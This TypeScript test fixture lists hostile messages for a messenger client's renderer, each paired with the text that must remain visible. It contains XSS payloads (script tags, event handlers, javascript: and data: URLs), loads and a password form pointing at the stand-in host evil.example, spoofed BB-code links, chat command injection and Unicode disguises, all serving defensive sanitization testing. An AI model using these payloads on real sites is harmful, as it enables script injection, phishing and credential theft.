/** A hostile message, and what of it has to be readable; `shows` absent = all of it, letter by letter. */
export interface HostileText {
  readonly text: string
  readonly shows?: string
}

const asTyped = (...texts: string[]): HostileText[] => texts.map((text) => ({ text }))

/** Target of everything hostile: a name that no resolver knows. */
export const EVIL = 'evil.example'

/** Code that would prove that a text was run. */
const RUN = 'top.__pwned=parent.__pwned=window.__pwned=1'

/** Text that tries to be markup, script or style. */
const markup = asTyped(
  `<script>${RUN}</script>`,
  `<ScRiPt src=//${EVIL}/x.js></sCrIpT>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=https://${EVIL}/pixel.gif>`,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe src="https://${EVIL}/"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="//${EVIL}/x.swf">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<style>@import "//${EVIL}/x.css"; *{background:url(//${EVIL}/y)}</style>`,
  `<link rel=stylesheet href=//${EVIL}/x.css>`,
  `<base href=//${EVIL}/>`,
  `<meta http-equiv=refresh content="0;url=//${EVIL}/">`,
  `<form action=//${EVIL}/><input name=password><button>Sign in to Bitrix24</button></form>`,
  `<div style="position:fixed;inset:0;background:#fff;z-index:9999">Your session has ended</div>`,
  `"><img src=x onerror=${RUN}>`,
  `'-${RUN}-'`,
  `\${${RUN}} {{${RUN}}} #{${RUN}}`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;b&#62; &amp;amp; &#x6A;avascript:`,
  `</textarea></title></script><script>${RUN}</script>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<!--<img src="--><img src=x onerror=${RUN}>`,
  `javascript:${RUN}`,
  `\u0000\u2028\u2029<b>line separators</b>`,
)

/** BB codes that try to be a link that runs, or one that leads to another address than it shows. */
const links: HostileText[] = [
  ...[
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\tscript:${RUN}`,
    `&#106;avascript:${RUN}`,
    `javascript&colon;${RUN}`,
    `javascript://%0a${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD4=`,
    `vbscript:msgbox(1)`,
    `blob:https://${EVIL}/1`,
    `file:///etc/passwd`,
    `view-source:https://${EVIL}/`,
    `intent://${EVIL}#Intent;scheme=https;end`,
    `bx://v2/${EVIL}/openchat`,
    `//${EVIL}/`,
    `/\\${EVIL}/`,
    `\\\\${EVIL}\\share`,
    `/crm/deal/details/1/../../../../logout/`,
    `/?logout=yes`,
    `https://portal.example@${EVIL}/`,
    `https:\\\\${EVIL}`,
    `https://${EVIL}/"onclick="${RUN}`,
  ].map((url, index) => ({ text: `[url=${url}]label ${index + 1}[/url]`, shows: `label ${index + 1}` })),
  { text: `[url]javascript:${RUN}[/url]`, shows: `javascript:${RUN}` },
  { text: `[url=https://${EVIL}/]https://portal.example/login[/url]`, shows: `https://portal.example/login (${EVIL})` },
  { text: `[url=https://${EVIL}/][url=javascript:${RUN}]nested[/url][/url]`, shows: 'nested' },
  { text: `[url=https://${EVIL}/[url=javascript:${RUN}]]crossed[/url]`, shows: 'crossed' },
  { text: `[b][url=javascript:${RUN}][i]mixed[/b] up[/i][/url]`, shows: 'mixed up' },
  { text: `[img]javascript:${RUN}[/img]`, shows: `javascript:${RUN}` },
  { text: `[img size=small]https://${EVIL}/pixel.png[/img]`, shows: `https://${EVIL}/pixel.png` },
  { text: `[icon=https://${EVIL}/i.png size=2000 title=icon name]`, shows: 'icon name' },
  { text: `[call=javascript:${RUN}]ring[/call]`, shows: 'ring' },
]

/** Commands of the messenger: none may run, nor be sent by a press on them. */
const commands: HostileText[] = [
  { text: '[put=/close]put it[/put]', shows: 'put it' },
  { text: '[send=/finish]send it[/send]', shows: 'send it' },
  { text: '[send]/transfer 12[/send]', shows: '/transfer 12' },
  { text: '[user=1 REPLACE]Administrator[/user]', shows: 'Administrator' },
  { text: '[chat=1]General chat[/chat]', shows: 'General chat' },
  { text: '[context=chat1/1]context[/context]', shows: 'context' },
  { text: '[color=red;background:url(//evil.example/c)]colour[/color]', shows: 'colour' },
  { text: '[size=9999]size[/size]', shows: 'size' },
  { text: '[timestamp=99999999999999999999]', shows: '[timestamp=99999999999999999999]' },
  { text: '/me $result[caller][ID] $total[b]50[/b]', shows: '/me $result[caller][ID] $total50' },
]

/** Misleading characters. */
const disguises: HostileText[] = [
  { text: `turned \u202efdp.exe`, shows: 'turned fdp.exe' },
  { text: `tower Z${'\u0336'.repeat(300)}algo`, shows: `tower Z${'\u0336'.repeat(6)}algo` },
  { text: `isolated \u2066\u2067\u2068 never closed` },
  { text: `zero\u200bwidth\u2060\ufeff` },
  { text: `long ${'W'.repeat(3000)}` },
  { text: `${'[b]'.repeat(200)}deep${'[/b]'.repeat(200)}`, shows: 'deep' },
  { text: `>>${'\n>>'.repeat(30)}quoted`, shows: 'quoted' },
]

/** All hostile messages that a client might send. */
export const hostileTexts: readonly HostileText[] = [...markup, ...links, ...commands, ...disguises]
